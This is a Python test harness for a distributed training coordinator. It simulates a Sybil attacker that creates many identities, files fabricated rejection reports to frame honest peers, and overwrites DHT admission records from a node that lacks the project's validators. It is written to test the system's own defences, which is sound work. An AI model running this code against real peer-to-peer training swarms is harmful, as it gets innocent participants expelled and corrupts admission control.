"""An attacker who never trains and tries to turn the defences against the honest, for
tests and scripts/attacks.py's `frame` scenario only (never installed).

From one address, in an `open` run, for `--seconds`:
- it makes as many identities as the coordinator lets it (a fresh RSA key, a signed Join and a
  proof each), keeps every session heartbeating "training", and holds their swarm tokens;
- every heartbeat of every identity reports fake evidence (non-finite and outlying parts) against
  every honest peer and the coordinator's own DHT nodes, naming fake all-reduce groups whose member
  lists put its identities next to the victims (its identities vouch for one another);
- with one identity's token it runs a hivemind DHT node WITHOUT crowdtrain's record validators and
  repeats the admission-record overwrite: a plain value under the run's swarm tokens and revocations keys
  expiring in a year, junk under each victim's token subkey.

Usage: python -m tests.framer --coordinator HOST:PORT --cache-dir DIR [--seconds 180]
It prints JSON lines: {"event": "framing", ...} at the start, {"event": "framed", ...} at the end,
with how many identities, heartbeats, reports and DHT writes it made.
"""

from __future__ import annotations

import argparse
import json
import os
import time
import urllib.request
from pathlib import Path

from crowdtrain.peer.admission.identity import PeerIdentity
from crowdtrain.peer.link.client import CoordinatorClient, CoordinatorRejected, CoordinatorUnavailable
from crowdtrain.protos import coordinator_pb2 as pb

YEAR_S = 365 * 86400.0


def say(event: str, **fields) -> None:
    record = {"event": event, "ts": time.time(), "level": "INFO", "logger": "tests.framer", "msg": event}
    print(json.dumps(record | fields), flush=True)  # a --log-format json record (peer/events.py)


class Sybil:
    """One identity of the framer: its key, session and the last token the coordinator sent it."""

    def __init__(self, client: CoordinatorClient, cache_dir: Path, name: str):
        self.identity = PeerIdentity.fresh(cache_dir)
        self.joined = client.join(self.identity.signed_join(pb.JoinRequest(name=name, device="cpu")))
        self.token = ""

    def beat(self, client: CoordinatorClient, proven: bool, groups: list, rejections: list) -> None:
        fields = {}
        if not proven:
            fields["dht_public_key"], fields["dht_signature"] = self.identity.prove(self.joined.dht_challenge)
        answer = client.heartbeat(
            pb.HeartbeatRequest(
                session_id=self.joined.session_id,
                session_token=self.joined.session_token,
                dht_peer_id=self.identity.peer_id,
                phase="training",
                samples_per_s=1000.0,
                local_epoch=int(time.time()) % 1000,
                groups=groups,
                rejections=rejections,
                **fields,
            )
        )
        self.token = answer.swarm_token or self.token


def victims_of(http_base: str, joined: pb.JoinResponse, mine: set[str]) -> list[str]:
    """Every DHT id the attacker can learn: honest peers (the dashboard's API) and the coordinator's
    bootstrap node (in every JoinResponse)."""
    with urllib.request.urlopen(f"{http_base}/api/v1/peers", timeout=10) as response:
        peers = json.load(response)
    rows = peers if isinstance(peers, list) else peers.get("peers", [])
    ids = {p.get("dht_peer_id", "") for p in rows}
    ids |= {m.rsplit("/p2p/", 1)[-1] for m in joined.initial_peers if "/p2p/" in m}
    return sorted(ids - mine - {""})


def fake_evidence(sybils: list[Sybil], victims: list[str]) -> tuple[list, list]:
    """(groups, rejections): one fake group per victim holding all our identities and the victim,
    and reports against each victim in it (at most 16 groups and 32 reports per heartbeat)."""
    groups, rejections = [], []
    for victim in victims[:16]:
        group_id = os.urandom(20)
        members = [s.identity.peer_id for s in sybils[:63]] + [victim]
        groups.append(pb.AveragingGroup(group_id=group_id, epoch=1, members=members))
        for kind in ("non_finite", "outlier"):
            if len(rejections) < 32:
                rejections.append(
                    pb.Rejection(offender=victim, kind=kind, detail="framed", epoch=1, group_id=group_id)
                )
    return groups, rejections


def overwrite_admission_records(sybil: Sybil, joined: pb.JoinResponse, victims: list[str]) -> dict:
    """The admission-record overwrite: plain values for a year under the tokens and revocations
    keys, junk under each victim's subkey, from a node without crowdtrain's validators; what each
    store answered."""
    import hivemind
    from crowdtrain.peer.admission.access import SwarmAuthorizer
    from crowdtrain.peer.admission.dhtrecords import IdentitySignatureValidator, revocations_key, tokens_key
    from hivemind.utils import get_dht_time

    manifest = json.loads(joined.manifest_json)
    run_id, run_key = manifest["run_id"], manifest["signing_public_key"]
    me = sybil.identity
    dht = hivemind.DHT(
        initial_peers=list(joined.initial_peers),
        start=True,
        client_mode=True,
        identity_path=str(me.path),
        check_if_identity_free=False,
        authorizer=SwarmAuthorizer(run_id, run_key, me.hivemind_private_key(), lambda: sybil.token),
        record_validators=[IdentitySignatureValidator(me.hivemind_private_key())],
    )
    try:
        year = get_dht_time() + YEAR_S
        answers = {
            "tokens_plain": dht.store(tokens_key(run_id), "x", expiration_time=year),
            "revocations_plain": dht.store(revocations_key(run_id), "x", expiration_time=year),
        }
        for victim in victims:
            answers[f"junk_{victim[:8]}"] = dht.store(
                tokens_key(run_id), subkey=victim, value="junk", expiration_time=year
            )
        return answers
    finally:
        dht.shutdown()


def frame(address: str, cache_dir: Path, seconds: float, max_identities: int) -> dict:
    cache_dir.mkdir(parents=True, exist_ok=True)
    client = CoordinatorClient(address, rpc_timeout_s=10)
    sybils: list[Sybil] = []
    proven: set[str] = set()
    counts = {"identities": 0, "join_refusals": 0, "heartbeats": 0, "refused_heartbeats": 0, "reports": 0}
    deadline, victims, dht_answers = time.monotonic() + seconds, [], {}
    while time.monotonic() < deadline:
        if len(sybils) < max_identities:
            try:
                sybils.append(Sybil(client, cache_dir, f"framer-{len(sybils)}"))
                counts["identities"] = len(sybils)
            except (CoordinatorRejected, CoordinatorUnavailable):
                counts["join_refusals"] += 1
        if sybils and (not victims or int(time.monotonic()) % 30 == 0):  # honest peers come and go
            mine = {x.identity.peer_id for x in sybils}
            victims = victims_of(sybils[0].joined.settings.http_base_url, sybils[0].joined, mine)
            say("framing", victims=victims, identities=len(sybils))
        groups, rejections = fake_evidence(sybils, victims)
        for s in sybils:
            try:
                s.beat(client, s.identity.peer_id in proven, groups, rejections)
                proven.add(s.identity.peer_id)
                counts["heartbeats"] += 1
                counts["reports"] += len(rejections)
            except (CoordinatorRejected, CoordinatorUnavailable):
                counts["refused_heartbeats"] += 1
        if counts["heartbeats"] and int(time.monotonic()) % 30 == 0:
            say("framing", **counts)  # so far (the harness may stop it before the end)
        if not dht_answers and any(s.token for s in sybils):
            holder = next(s for s in sybils if s.token)
            dht_answers = overwrite_admission_records(holder, holder.joined, victims)
        time.sleep(1.0)
    client.close()
    return counts | {"dht_writes": dht_answers, "victims": victims}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--coordinator", required=True)
    parser.add_argument("--cache-dir", required=True)
    parser.add_argument("--seconds", type=float, default=180.0)
    parser.add_argument("--max-identities", type=int, default=200)
    args = parser.parse_args(argv)
    say("framed", **frame(args.coordinator, Path(args.cache_dir), args.seconds, args.max_identities))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
